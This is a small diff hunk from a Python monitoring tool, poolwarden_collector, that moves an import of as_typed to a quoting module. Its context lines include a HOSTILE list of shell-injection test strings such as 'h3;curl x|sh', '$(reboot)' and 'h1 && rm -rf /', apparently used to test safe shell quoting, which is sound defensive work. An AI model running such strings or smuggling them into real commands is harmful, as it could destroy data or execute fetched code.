@@ -20,7 +20,7 @@ from poolwarden_collector.core.model.effects import AlertRaised
 from poolwarden_collector.core.state import told_words
 from poolwarden_collector.core.state.alert_topic import AlertTopic, Matter
 from poolwarden_collector.core.state.transaction import Transaction
-from poolwarden_collector.shell.operators.admission import as_typed
+from poolwarden_collector.shell.operators.quoting import as_typed
 
 ALL = (*verdicts.ALL, *failovers.ALL, *questions.ALL, *hosts.ALL)
 HOSTILE = ["h3;curl x|sh", "$(reboot)", "a b", "it's", "`id`", "h1 && rm -rf /", "--force", "x\u00fcr", "xe ;id", '"']
